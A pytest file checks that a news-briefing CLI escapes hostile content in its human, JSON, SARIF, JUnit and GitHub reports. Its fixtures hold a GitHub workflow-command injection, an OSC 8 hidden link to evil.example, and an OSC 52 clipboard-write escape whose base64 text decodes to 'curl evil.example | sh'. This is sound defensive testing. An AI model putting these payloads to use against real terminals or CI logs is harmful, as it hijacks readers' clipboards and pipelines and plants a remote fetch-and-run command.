"""Reports cannot be hijacked: what documents and file names hold is shown escaped in
every human format, carried as data in JSON, SARIF and JUnit, and escaped the GitHub way
in workflow commands."""

from __future__ import annotations

import json
from pathlib import Path
from xml.etree import ElementTree

import pytest

from tests.conftest import RunCli
from tests.hostile.newsroom import strings_of

WORKFLOW = "\n::error file=README.md,line=1::INJECTED\n"
"""A GitHub Actions workflow command, if it starts a line of the log."""
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
"""OSC 52: write to the clipboard of the terminal showing the report."""
LINK = "\x1b]8;;https:evil.example\x07here\x1b]8;;\x07"
"""OSC 8: a hidden link (no slash: it goes into a file name too)."""


def _briefing(axiom: str) -> str:
    return json.dumps(
        {
            "schema_version": "1.1",
            "headline": "Council passes budget",
            "lede": "The council passed the budget.",
            "blocks": [
                {
                    "axiom": axiom,
                    "label": "Why it matters",
                    "content": [{"type": "paragraph", "text": "Rates rise."}],
                }
            ],
        }
    )


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """A folder of briefings whose values and names carry the payloads."""
    folder = tmp_path / "briefs"
    folder.mkdir()
    (folder / "value.json").write_text(_briefing(f"why{WORKFLOW}"), encoding="utf-8")
    (folder / f"name{WORKFLOW.strip()}.json").write_text(_briefing("why"), encoding="utf-8")
    (folder / f"clip{CLIPBOARD}.json").write_text(_briefing("why"), encoding="utf-8")
    (folder / f"link{LINK}.json").write_text(_briefing("why"), encoding="utf-8")
    (folder / "line\nbreak.json").write_text(_briefing("why"), encoding="utf-8")
    return folder


def _assert_harmless(text: str, *, colour: bool = False) -> None:
    lines = text.splitlines()
    assert not [line for line in lines if line.lstrip().startswith("::error file=README.md")]
    assert "\x07" not in text and "\x1b]" not in text
    if not colour:
        assert "\x1b" not in text
    assert "\r" not in text


HUMAN = [
    ("lint", "full"),
    ("lint", "concise"),
    ("validate", "full"),
    ("validate", "concise"),
]


@pytest.mark.parametrize(("command", "report"), HUMAN)
@pytest.mark.parametrize("color", ["never", "always"])
def test_human_reports_show_payloads_escaped(
    run_cli: RunCli, hostile: Path, command: str, report: str, color: str
) -> None:
    result = run_cli(command, "--output-format", report, "--color", color, str(hostile))
    _assert_harmless(result.stdout, colour=color == "always")
    _assert_harmless(result.stderr)
    assert "why\\n::error file=README.md,line=1::INJECTED\\n" in result.stdout
    assert "clip\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07.json" in result.stdout
    assert "line\\nbreak.json" in result.stdout
    assert "5 files" in result.stdout.splitlines()[-1]


def test_junit_carries_payloads_as_data(run_cli: RunCli, hostile: Path) -> None:
    result = run_cli("lint", "--output-format", "junit", str(hostile))
    _assert_harmless(result.stdout)
    suite = ElementTree.fromstring(result.stdout)
    names = {case.get("name") for case in suite.iter("testcase")}
    assert str(hostile / "line\nbreak.json") in names  # a line break is data (&#10;)
    assert str(hostile / "clip\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07.json") in names
    # A failing file lists its findings in its one failure's text.
    messages = [failure.text or "" for failure in suite.iter("failure")]
    assert any("why" in message and "INJECTED" in message for message in messages)
    assert not any(line.startswith("::") for m in messages for line in m.splitlines())


@pytest.mark.parametrize("report", ["json", "sarif"])
def test_json_and_sarif_carry_payloads_as_data(run_cli: RunCli, hostile: Path, report: str) -> None:
    result = run_cli("lint", "--output-format", report, str(hostile))
    _assert_harmless(result.stdout)
    strings = strings_of(json.loads(result.stdout))
    assert any(f"why{WORKFLOW}" in value for value in strings)
    if report == "json":
        paths = {str(p) for p in hostile.iterdir()}
        assert paths <= set(strings)


def test_github_annotations_keep_their_escaping(run_cli: RunCli, hostile: Path) -> None:
    result = run_cli("lint", "--output-format", "github", str(hostile))
    assert not [
        line
        for line in result.stdout.splitlines()
        if "INJECTED" in line and line.startswith("::error file=README.md")
    ]
    assert "%0A::error file=README.md,line=1::INJECTED%0A" in result.stdout


def test_messages_on_standard_error_are_escaped(run_cli: RunCli, tmp_path: Path) -> None:
    name = tmp_path / f"bad{CLIPBOARD}{WORKFLOW.strip()}.json"
    name.write_text("{", encoding="utf-8")
    for command in (("convert", "--to", "yaml"), ("stats",), ("migrate", "--to", "1.1")):
        result = run_cli(*command, str(name))
        assert result.exit_code == 2
        _assert_harmless(result.stderr)
        assert "bad\\x1b]52;c;" in result.stderr


def test_a_draft_cannot_write_to_the_terminal(run_cli: RunCli, tmp_path: Path) -> None:
    draft = tmp_path / "draft.md"
    draft.write_text(f"# Budget\n\nThe council {CLIPBOARD}voted {LINK}.\n", encoding="utf-8")
    for command in ("lint", "validate"):
        result = run_cli(command, str(draft))
        assert result.exit_code == 2
        _assert_harmless(result.stdout)
        assert "U+001B" in result.stdout
